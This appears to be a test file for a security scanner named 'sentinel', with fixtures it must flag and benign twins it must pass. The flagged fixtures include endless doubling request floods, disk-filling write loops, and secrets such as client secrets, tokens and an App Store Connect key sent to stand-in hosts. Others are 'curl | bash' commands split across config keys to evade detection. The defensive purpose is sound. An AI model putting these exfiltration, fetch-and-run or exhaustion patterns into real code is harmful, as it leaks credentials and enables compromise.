/**
 * Sentinel, twenty-sixth pass: shapes of a technique rather than one sample's spelling — an endless loop whatever its
 * start and step, a load that doubles each round however the batch is sized, a file kept open and written until the
 * disk is full, a write loop bounded by the disk's free space — each with the twin that must stay quiet.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { loud } from './helpers.ts';

const has = (files: Record<string, string>, want: string): void => {
  const got = loud(files);
  assert.ok(
    got.some((g) => g.startsWith(`${want}:`) || g === want),
    `expected ${want}\n${got.join('\n')}`,
  );
};
const quiet = (files: Record<string, string>, rule: string): void => {
  const got = loud(files).filter((x) => x.includes(rule));
  assert.deepEqual(got, []);
};

const rampJs = (loopHead: string, grow: string, batch = 'Array.from({ length: conc }, sendOne)'): string =>
  [
    "const { request } = require('undici');",
    'const target = process.env.TARGET_URL;',
    'async function sendOne() {',
    "  const res = await request(target, { method: 'POST', body: '{}' });",
    '  await res.body.dump();',
    '  return res.statusCode;',
    '}',
    '(async () => {',
    '  let conc = 8;',
    `  ${loopHead} {`,
    `    const results = await Promise.all(${batch});`,
    "    console.log('round', results.length);",
    `    ${grow}`,
    '  }',
    '})();',
    '',
  ].join('\n');

test('a request load doubled each round in a loop with no end, however the loop and the batch are written', () => {
  for (const head of ['for (let round = 1; ; round++)', 'for (;;)', 'while (true)'])
    has({ 'scripts/ramp.js': rampJs(head, 'conc *= 2;') }, 'error sentinel/resource-flood scripts/ramp.js');
  // (the batch as a slice of a list, its stride the doubled count)
  const replay = [
    "const files = require('fs').readdirSync('.');",
    'let concurrency = 4;',
    'async function send(f) {',
    "  const r = await fetch(process.env.INGEST_URL, { method: 'POST', body: f });",
    '  return r.status;',
    '}',
    'async function run() {',
    '  for (;;) {',
    '    for (let i = 0; i < files.length; i += concurrency) {',
    '      const slice = files.slice(i, i + concurrency);',
    '      await Promise.all(slice.map((f) => send(f).catch(() => 0)));',
    '    }',
    '    concurrency *= 2;',
    '  }',
    '}',
    'run();',
    '',
  ].join('\n');
  has({ 'scripts/replay.js': replay }, 'error sentinel/resource-flood scripts/replay.js');
  // Quiet: a ramp that stops (a bound in the loop's head), and a retry whose back-off doubles and sleeps.
  quiet({ 'scripts/ramp.js': rampJs('for (let round = 1; round <= 5; round++)', 'conc *= 2;') }, 'resource-flood');
  const backoff = [
    'async function poll(url) {',
    '  let wait = 500;',
    '  for (;;) {',
    '    const r = await fetch(url);',
    '    if (r.ok) return r.json();',
    '    await new Promise((res) => setTimeout(res, wait));',
    '    wait *= 2;',
    '  }',
    '}',
    '',
  ].join('\n');
  quiet({ 'scripts/poll.js': backoff }, 'resource-flood');
});

test('a file kept open and written until the disk is full, and a write loop bounded by the free space', () => {
  const probe = [
    'import os',
    'def write_test(target):',
    '    probe = target / ".probe"',
    '    block = os.urandom(8 * 1024 * 1024)',
    '    with open(probe, "wb", buffering=0) as fh:',
    '        while True:',
    '            try:',
    '                fh.write(block)',
    '            except OSError:',
    '                break',
    '',
  ].join('\n');
  has({ 'scripts/doctor.py': probe }, 'error sentinel/resource-flood scripts/doctor.py');
  // (rewound each round: one block rewritten, nothing grows)
  quiet(
    { 'scripts/doctor.py': probe.replace('                fh.write(block)', '                fh.seek(0)\n                fh.write(block)') },
    'resource-flood',
  );
  const reserve = (fraction: string) =>
    [
      'import os, shutil',
      `RESERVE_FRACTION = ${fraction}`,
      'CHUNK = 256 * 1024 * 1024',
      'def reserve(staging):',
      '    target = shutil.disk_usage(staging).free * RESERVE_FRACTION',
      '    written, i = 0, 0',
      '    while written < target:',
      '        blk = staging / f".reserve_{i:05d}.blk"',
      '        with blk.open("wb") as fh:',
      '            fh.write(os.urandom(CHUNK))',
      '        written += CHUNK',
      '        i += 1',
      '',
    ].join('\n');
  has({ 'ingest/watch.py': reserve('1.0') }, 'error sentinel/resource-flood ingest/watch.py');
  // (a tenth of the free space reserved is a reserve, not a fill)
  quiet({ 'ingest/watch.py': reserve('0.1') }, 'resource-flood');
});

test('a secret carried into an address that markup loads (an image, a stylesheet, a Markdown image), also from a settings object another script exports', () => {
  has(
    { 'scripts/badge.js': 'export const html = `<img alt="status" src="https://badges.report-kit.example/s.svg?s=${process.env.CLIENT_SECRET}">`;\n' },
    'error sentinel/secret-exfiltration scripts/badge.js:1',
  );
  has(
    {
      'scripts/notes.py':
        'import os\ntoken = os.environ["GITHUB_TOKEN"]\nmd = f"![build](https://stats.report-kit.example/b.svg?t={token})"\nopen("README.md", "w").write(md)\n',
    },
    // (a token with no service named sent to a host that is none of its: a warning)
    'warning sentinel/secret-exfiltration scripts/notes.py:3',
  );
  // (the settings object written over several lines in one script, the address built in another that imports it)
  const config = [
    "import 'dotenv/config';",
    'export const cfg = {',
    '  tenantId: process.env.TENANT_ID,',
    '  clientSecret: process.env.CLIENT_SECRET,',
    '};',
    '',
  ].join('\n');
  const page = [
    "import { cfg } from './config.js';",
    'export function badge() {',
    '  const q = new URLSearchParams({ t: cfg.tenantId, s: cfg.clientSecret });',
    '  return `<img alt="status" height="20" src="https://badges.report-kit.example/s.svg?${q}">`;',
    '}',
    '',
  ].join('\n');
  has({ 'src/config.js': config, 'src/html.js': page }, 'error sentinel/secret-exfiltration src/html.js:4');
  // Quiet: markup addresses with no secret in them, and a badge whose token is the badge service's own.
  quiet({ 'scripts/badge.js': 'export const html = `<img src="https://img.shields.io/badge/version-${pkg.version}-blue">`;\n' }, 'secret-exfiltration');
  quiet(
    { 'scripts/badge.js': 'export const md = `![cov](https://codecov.io/gh/acme/app/graph/badge.svg?token=${process.env.CODECOV_TOKEN})`;\n' },
    'secret-exfiltration',
  );
});

test("App Store Connect's API key is a credential file: posted to another host it is stolen, signing Apple's own API is its use", () => {
  const upload = (stats: string) =>
    [
      'import glob, os, requests, jwt',
      'API = "https://api.appstoreconnect.apple.com/v1"',
      'def load(key_id):',
      '    key_dir = os.path.expanduser("~/.appstoreconnect/private_keys")',
      '    with open(os.path.join(key_dir, f"AuthKey_{key_id}.p8")) as fh:',
      '        key = fh.read()',
      '    return {"key_id": key_id, "key": key}',
      'def main():',
      '    ctx = load("ABC123")',
      '    token = jwt.encode({"iss": "x"}, ctx["key"], algorithm="ES256")',
      '    requests.get(f"{API}/builds", headers={"Authorization": f"Bearer {token}"}, timeout=30)',
      stats,
      '',
    ].join('\n');
  has(
    { 'scripts/upload.py': upload('    requests.post("https://metrics.asc-kit.example/v1/runs", json=dict(ctx), timeout=5)') },
    'error sentinel/secret-exfiltration scripts/upload.py:12',
  );
  quiet({ 'scripts/upload.py': upload('') }, 'secret-exfiltration');
});

test("a download piped into a shell kept as the values of consecutive keys, its tool's name split between two of them", () => {
  has(
    {
      'config/sync.ini': [
        '[transport]',
        '; shared settings for the HTTP client',
        'client = cu',
        'client_flags = rl -fsS --retry 3',
        'update_channel = https://sync-updates.example/channel/hooks.sh',
        'update_pipe = | ba',
        'update_shell = sh',
        '',
      ].join('\n'),
    },
    'error sentinel/encoded-exec config/sync.ini',
  );
  has(
    {
      'config.mk': [
        'API := https://api.zoom.us/v2',
        '',
        '# helpers (split so they can be overridden per platform)',
        'HELPER_FETCH_1  := cu',
        'HELPER_FETCH_2  := rl -fsSL',
        'HELPER_ORIGIN   := https://assets.rooms-kit.example',
        'HELPER_PATH     := /setup/prepare.sh',
        'HELPER_PIPE_1   := | b',
        'HELPER_PIPE_2   := ash',
        '',
      ].join('\n'),
    },
    'error sentinel/encoded-exec config.mk',
  );
  has(
    {
      'qc/gate.yaml': [
        'notify:',
        '  enabled: true',
        '  transport: ["cu", "rl"]',
        '  flags: "-fsSL"',
        '  endpoint: "https://qc-notify.example/run-complete.sh"',
        '  sink: ["s", "h"]',
        '',
      ].join('\n'),
    },
    'error sentinel/encoded-exec qc/gate.yaml',
  );
  // Quiet: a whole tool named beside an address (an ordinary setting), and a split word that makes no download.
  quiet(
    {
      'config/sync.ini': ['[transport]', 'client = curl', 'client_flags = -fsS --retry 3', 'update_channel = https://sync-updates.example/channel/', ''].join(
        '\n',
      ),
    },
    'encoded-exec',
  );
  quiet({ 'qc/gate.yaml': ['notify:', '  enabled: true', '  shell: "sh"', '  endpoint: "https://qc-notify.example/hook"', ''].join('\n') }, 'encoded-exec');
});
